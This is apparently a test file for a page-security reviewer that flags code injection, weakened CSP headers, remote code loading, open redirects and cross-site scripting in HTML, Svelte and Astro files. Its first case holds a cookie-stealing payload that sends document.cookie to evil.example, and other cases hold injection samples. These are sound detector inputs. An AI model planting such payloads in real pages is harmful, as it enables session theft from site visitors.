import { expect, it } from 'vitest';
import { judgePage } from '../../../reviewers/security/pages/judge-page.ts';

it.each([
  [`<img src="x" onerror="fetch('https://evil.example/?c=' + document.cookie)">`, ['code-injection']],
  ['<a href="javascript:eval(location.hash)">A</a>', ['code-injection']],
  ['<b onclick="setTimeout(\'go()\', 1)">A</b>', ['code-injection']],
  ['<a href="javascript:void(0)" onclick="go()">A</a>', []],
  ['<b title="eval(1)">A</b>', []],
  [`<meta http-equiv="Content-Security-Policy" content="script-src *">`, ['security-check-off']],
  [`<meta http-equiv="Content-Security-Policy" content="default-src 'self' 'unsafe-eval'">`, ['security-check-off']],
  [`<meta http-equiv="Content-Security-Policy" content="script-src 'nonce-a' 'unsafe-inline'">`, []],
  [`<meta http-equiv="Content-Security-Policy" content="default-src *; script-src 'self'">`, []],
  [`<meta http-equiv="Content-Security-Policy" content="img-src *">`, []],
  ['<iframe src="/a" sandbox="allow-scripts allow-same-origin"></iframe>', ['excessive-permissions']],
  ['<iframe src="/a" sandbox="allow-scripts"></iframe>', []],
  ['<base href="https://a.example/">', ['downloaded-code']],
  ['<base href="/a/">', []],
  ['<object data="//a.example/b.swf"></object>', ['downloaded-code']],
  ['<script type="module">\nimport a from "https://a.example/b.js";\n</script>', ['downloaded-code']],
  ['<script type="module">\nimport a from "./b.js";\n</script>', []],
  ['<meta http-equiv="refresh" content="0; url=https://a.example/">', ['open-redirect']],
  ['<meta http-equiv="refresh" content="0; url=/a">', []],
] as const)('%s', (text, rules) => {
  expect(judgePage(`${text}\n`, 'public/a.html').hazards.map(({ rule }) => rule)).toEqual(rules);
});

it.each([
  ['<p>{{{ a }}}</p>', 1],
  ['<p th:utext="${a}"></p>', 1],
  ['<p><?= $a ?></p>', 1],
  ['<p><%- a %></p>', 1],
  ['<p [innerHTML]="a"></p>', 1],
  ['<p x-html="a"></p>', 1],
  ['<!doctype html>\n<?xml version="1.0"?>\n<p data-a="b">A</p>', 0],
  ['<script>\nf(`${a}`);\n</script>', 0],
] as const)('%s', (text, unread) => {
  expect(judgePage(`${text}\n`, 'public/a.html').unread).toHaveLength(unread);
});

it.each([
  ['src/A.svelte', '<script>\nlet { body } = $props();\n</script>\n{@html body}', ['cross-site-scripting']],
  ['src/A.svelte', '<script>\nlet { body } = $props();\n</script>\n{body}', []],
  [
    'src/A.svelte',
    '<script>\nlet { a } = $props();\n</script>\n<iframe srcdoc={a}></iframe>',
    ['cross-site-scripting'],
  ],
  ['src/A.svelte', '<iframe srcdoc="<p>A</p>"></iframe>', []],
  ['src/A.svelte', '<script>\nexport let a;\n</script>\n<p bind:innerHTML={a}></p>', ['cross-site-scripting']],
  [
    'src/a.astro',
    '---\nconst { a } = Astro.props;\n---\n<script set:html={JSON.stringify(a)} />',
    ['cross-site-scripting'],
  ],
  ['src/a.astro', '---\nconst { a } = Astro.props;\n---\n<p set:html={escapeHtml(a)} />', []],
  ['public/a.html', '<script src="http://cdn.example.net/a.js"></script>', ['downloaded-code']],
  ['public/a.html', '<script src="http://cdn.example/a.js"></script>', []],
] as const)('%s: %s', (path, text, rules) => {
  expect(judgePage(`${text}\n`, path).hazards.map(({ rule }) => rule)).toEqual(rules);
});
